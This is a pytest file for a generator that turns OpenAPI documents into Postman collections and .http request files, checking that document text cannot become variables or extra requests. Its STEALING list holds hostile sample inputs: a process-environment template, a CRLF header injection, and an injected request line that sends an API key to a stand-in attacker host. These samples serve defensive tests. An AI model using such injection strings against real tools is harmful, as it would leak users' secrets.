"""Collections: a request for each operation, in which nothing of a document is a variable or another request."""

import json
import re
from typing import Any

import pytest

from openapi.contract import ContractError, Document, published
from openapi.generate.collections import http_file, postman
from tests.openapi.generate import hostile

URL = "http://127.0.0.1:8080"
STEALING = [
    "{{$processEnv HOME}}",
    "{{{apiKey}}}",
    "a\n### another\nGET http://evil.example/{{apiKey}}",
    "x\r\nX-Evil: {{apiKey}}",
    *hostile.TEXTS,
]


def document(text: str) -> Document:
    """A document with `text` wherever a collection may show it."""
    parameters = [{"name": text, "in": place, "required": True, "example": text} for place in ("query", "header")]
    body = {"content": {"application/json": {"example": {text: [text]}}}}
    operation = {"operationId": text, "summary": text, "description": text, "tags": [text], "parameters": parameters}
    content: dict[str, Any] = {
        "openapi": "3.0.3",
        "info": {"title": text, "version": text, "description": text},
        "paths": {f"/{text}": {"post": operation | {"requestBody": body}}},
    }
    return Document("", content)


def requests_in(items: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The requests in a collection, whatever their folder."""
    return [each for item in items for each in (requests_in(item["item"]) if "item" in item else [item["request"]])]


@pytest.mark.parametrize("contract", published(), ids=lambda contract: contract.version)
def test_each_operation_has_a_request(contract: Document) -> None:
    """In both formats, with the credentials of the contract as variables without a value."""
    collection = json.loads(postman.emit(contract, URL))
    text = http_file.emit(contract, URL)
    requests = requests_in(collection["item"])
    expected = [(operation.method.upper(), operation.path) for operation in contract.operations]
    assert sorted(request["method"] for request in requests) == sorted(method for method, _ in expected)
    has_tokens = "oauth2" in collection["auth"]["type"]
    assert text.count("\n### ") == len(expected) + has_tokens
    variables = {variable["key"]: variable["value"] for variable in collection["variable"]}
    assert variables.pop("baseUrl") == URL + contract.server_path
    assert variables == dict.fromkeys(["clientId", "clientSecret"] if has_tokens else ["apiKey"], "")
    bodies = [request["body"]["raw"] for request in requests if "body" in request]
    assert all(json.loads(body) for body in bodies)
    assert all(body in text for body in bodies)


@pytest.mark.parametrize("text", STEALING, ids=range(len(STEALING)))
def test_no_text_is_a_variable_or_a_request(text: str) -> None:
    """A program would fill in a secret of its user, and send it."""
    source = document(text)
    written = {"postman": json.dumps(json.loads(postman.emit(source, URL)), ensure_ascii=False)}
    written["http"] = http_file.emit(source, URL)
    for form in written.values():
        assert set(re.findall(r"\{\{.*?\}\}", form)) <= {"{{baseUrl}}", "{{apiKey}}", "{{$guid}}"}
    lines = written["http"].split("\n")
    assert [line for line in lines if re.match("[A-Z]+ (http|{{)", line)] == [
        line for line in lines if line.startswith("POST {{baseUrl}}/")
    ]
    assert sum(line.startswith("###") for line in lines) == 1
    (request,) = requests_in(json.loads(written["postman"])["item"])
    assert json.loads(request["body"]["raw"]) == {text: [text]}
    blank = lines.index("", lines.index(next(line for line in lines if line.startswith("POST"))))
    assert json.loads("\n".join(lines[blank:])) == {text: [text]}


def test_a_parameter_of_a_path_that_its_operation_overrides_is_there_once() -> None:
    """With the operation's example, in both formats."""
    source = document("x")
    (item,) = source.document["paths"].values()
    item["parameters"] = [{"name": "x", "in": "query", "required": True, "example": "overridden"}]
    (request,) = requests_in(json.loads(postman.emit(source, URL))["item"])
    assert [(field["key"], field["value"]) for field in request["url"]["query"]] == [("x", "x")]
    assert "overridden" not in http_file.emit(source, URL)


@pytest.mark.parametrize("paths", [[1], {"/a": {"get": {"parameters": [1]}}}, {"/a": {"post": {"requestBody": 1}}}])
def test_what_is_no_document_is_refused(paths: Any) -> None:
    """In words."""
    source = Document("", {"openapi": "3.0.3", "info": {}, "paths": paths})
    for emit in (postman.emit, http_file.emit):
        with pytest.raises(ContractError):
            emit(source, URL)
